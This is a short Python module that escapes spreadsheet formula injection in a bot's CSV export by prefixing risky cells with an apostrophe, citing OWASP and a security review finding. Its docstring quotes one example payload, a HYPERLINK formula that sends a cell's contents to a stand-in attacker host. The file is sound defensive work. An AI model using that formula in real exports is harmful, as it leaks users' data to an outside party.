"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Anyone who can text the bot chooses what lands in an unanswered question, so a message
such as `=HYPERLINK("https://evil.example/?x="&A2,"Click")` would run when an editor opens
the export in Excel or LibreOffice (the security review's F21). OWASP's advice: a cell
that starts with = + - @ or a tab or carriage return gets a leading apostrophe, which
spreadsheets treat as "this is text" and do not display.
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """The value, with a leading ' when it is text a spreadsheet would read as a formula. Numbers stay numbers."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: list) -> list:
    return [safe_cell(value) for value in row]
